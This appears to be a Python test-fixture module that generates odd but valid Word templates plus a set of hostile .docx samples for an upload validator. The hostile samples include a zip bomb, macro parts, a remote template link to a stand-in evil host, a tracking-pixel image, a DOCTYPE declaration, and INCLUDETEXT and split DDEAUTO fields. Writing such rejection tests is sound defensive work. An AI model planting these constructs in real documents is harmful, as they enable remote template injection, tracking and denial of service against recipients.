"""Odd Word files that users could choose as their template, and hostile ones; built anew by the tests."""

import io
import re
import zipfile
from typing import Any

import docx
from docx.enum.section import WD_ORIENT, WD_SECTION
from docx.enum.style import WD_STYLE_TYPE
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Cm, Inches, Pt, RGBColor
from PIL import Image

SECRET = "Memo to the board about Project Heron"
AUTHOR = "Jo Secret-Author"


def element(tag: str, attributes: dict[str, str] | None = None) -> Any:
    return OxmlElement(tag, attributes)


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def picture(colour: str = "#7A0019") -> io.BytesIO:
    out = io.BytesIO()
    Image.new("RGB", (300, 60), colour).save(out, "PNG")
    out.seek(0)
    return out


def plain() -> bytes:
    """Return what python-docx starts with: Word's styles of 2013, an author, a thumbnail."""
    document = docx.Document()
    document.core_properties.author = document.core_properties.last_modified_by = AUTHOR
    document.add_paragraph(SECRET)
    return saved(document)


def without_headings() -> bytes:
    """Return a file that was formatted by hand: no headings, no lists; running text set in and justified."""
    document = docx.Document()
    root: Any = document.styles.element
    for style in list(root.iter(qn("w:style"))):
        name = style.find(qn("w:name")).get(qn("w:val"))
        if re.match(r"(heading|Heading|List|Title|Subtitle|TOC|Body|caption)", name, re.IGNORECASE):
            root.remove(style)
    # What named a style that is gone.
    known = {style.get(qn("w:styleId")) for style in root.iter(qn("w:style"))}
    for tag in ("w:basedOn", "w:next", "w:link"):
        for one in list(root.iter(qn(tag))):
            if one.get(qn("w:val")) not in known:
                one.getparent().remove(one)
    normal: Any = document.styles["Normal"]
    normal.font.name, normal.font.size = "Georgia", Pt(12)
    normal.paragraph_format.first_line_indent = Cm(1)
    normal.paragraph_format.line_spacing = 2
    normal.paragraph_format.alignment = 3
    # An own style by a name that ours has, but for letters.
    made: Any = document.styles.add_style("Lead", WD_STYLE_TYPE.CHARACTER)
    made.font.bold = True
    document.sections[0].footer.paragraphs[0].text = "Helix Arc A/S · Copenhagen"
    return saved(document)


def letterhead() -> bytes:
    """Return a letterhead: legal paper, odd margins, a picture at its head, two sections, red headings."""
    document = docx.Document()
    page = document.sections[0]
    page.page_width, page.page_height = Inches(8.5), Inches(14)
    page.left_margin, page.right_margin = Cm(4.5), Cm(1.2)
    page.top_margin, page.bottom_margin = Cm(3.3), Cm(1.1)
    page.header.paragraphs[0].add_run().add_picture(picture(), Cm(5))
    for name in ("Heading 1", "Title"):
        style: Any = document.styles[name]
        style.font.color.rgb = RGBColor(0x7A, 0x00, 0x19)
    document.add_paragraph(SECRET).add_run().add_picture(picture("#123456"), Cm(5))
    wide = document.add_section(WD_SECTION.NEW_PAGE)
    wide.orientation = WD_ORIENT.LANDSCAPE
    wide.page_width, wide.page_height = Inches(11), Inches(8.5)
    wide.footer.is_linked_to_previous = True
    page.footer.paragraphs[0].text = "Page "
    field = element("w:fldSimple", {qn("w:instr"): " PAGE "})
    page.footer.paragraphs[0]._p.append(field)
    document.core_properties.author = AUTHOR
    return saved(document)


def in_german() -> bytes:
    """Return a file of a German Word: ids of styles are German, headings have numbers."""
    document = docx.Document()
    styles: Any = document.styles.element
    ids = {"Heading1": "berschrift1", "Heading2": "berschrift2", "Title": "Titel", "Normal": "Standard"}
    for one in styles.iter(qn("w:style")):
        one.set(qn("w:styleId"), ids.get(one.get(qn("w:styleId")), one.get(qn("w:styleId"))))
    for tag in ("w:basedOn", "w:next", "w:link"):
        for one in styles.iter(qn(tag)):
            one.set(qn("w:val"), ids.get(one.get(qn("w:val")), one.get(qn("w:val"))))
    heading: Any = document.styles["Heading 1"]
    number = heading.element.get_or_add_pPr().get_or_add_numPr().get_or_add_numId()
    counted: Any = document.styles["List Number"].element
    number.val = counted.pPr.numPr.numId.val
    return saved(document)


ODD = {"plain": plain, "without-headings": without_headings, "letterhead": letterhead, "german": in_german}


def changed(data: bytes, name: str, old: str = "", new: str = "", whole: bytes | None = None) -> bytes:
    """Return a file with a part changed, or with another one."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as before,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after,
    ):
        names = before.namelist()
        for one in names:
            part = before.read(one)
            if one == name and whole is None:
                assert old.encode() in part, (name, old)
                part = part.replace(old.encode(), new.encode())
            if one != name or whole is None:
                after.writestr(one, part)
        if whole is not None:
            after.writestr(name, whole)
    return out.getvalue()


def related(data: bytes, part: str, kind: str, target: str, outside: bool = True) -> bytes:
    """Return a file in which a part has one more relationship."""
    name = f"word/_rels/{part}.rels"
    mode = ' TargetMode="External"' if outside else ""
    row = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}"{mode}/>'
    )
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        if name in package.namelist():
            return changed(data, name, "</Relationships>", f"{row}</Relationships>")
    head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    return changed(data, name, whole=f"{head}{row}</Relationships>".encode())


DOCTYPE = '<!DOCTYPE x [<!ENTITY a "b">]>'
TYPES = "[Content_Types].xml"
MACROS = "vnd.ms-word.document.macroEnabled.main+xml"
MAIN = "wordprocessingml.document.main+xml"


def hostile() -> dict[str, bytes]:
    """Return files that must never become a template, by what is wrong with them."""
    good = plain()
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        new.writestr("word/media/zeros.xml", b"\0" * 9_000_000)
    styles = zipfile.ZipFile(io.BytesIO(good)).read("word/styles.xml").decode()
    declared = styles.replace("<w:styles", DOCTYPE + "<w:styles", 1)
    return {
        "text": b"just a text",
        "old word": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000,
        "zip": changed(good, TYPES, "wordprocessingml", "spreadsheetml"),
        "docm": changed(good, TYPES, f"vnd.openxmlformats-officedocument.{MAIN}", MACROS),
        "vba": changed(good, "word/vbaProject.bin", whole=b"\xd0\xcf\x11\xe0"),
        "attached": related(good, "settings.xml", "attachedTemplate", "https://example.com/evil.dotm"),
        "linked picture": related(good, "document.xml", "image", "http://example.com/beacon.png"),
        "doctype": changed(good, "word/styles.xml", whole=declared.encode()),
        "doctype in another encoding": changed(good, "word/styles.xml", whole=declared.encode("utf-16")),
        "bomb": bomb.getvalue(),
        "large": good + b"\0" * (9 << 20),
        "many parts": _many(good),
        "broken": good[: len(good) // 2],
        "broken styles": changed(good, "word/styles.xml", "</w:styles>", ""),
        "narrow page": changed(good, "word/document.xml", 'w:w="12240"', 'w:w="4000"'),
        "field that fetches": _with_field(good, "INCLUDETEXT"),
        "field in pieces": _with_field(good, "DD", "EAUTO"),
    }  # fmt: skip


def _many(good: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        for number in range(2001):
            new.writestr(f"word/media/{number}.txt", b"")
    return out.getvalue()


def _with_field(good: bytes, *codes: str) -> bytes:
    document = docx.Document(io.BytesIO(good))
    line = document.sections[0].header.paragraphs[0]
    for code in codes:
        text = element("w:instrText")
        text.text = code
        line.add_run("x")._r.append(text)
    return saved(document)


def as_template(data: bytes) -> bytes:
    """Return a document as Word keeps it as .dotx."""
    return changed(data, TYPES, MAIN, "wordprocessingml.template.main+xml")
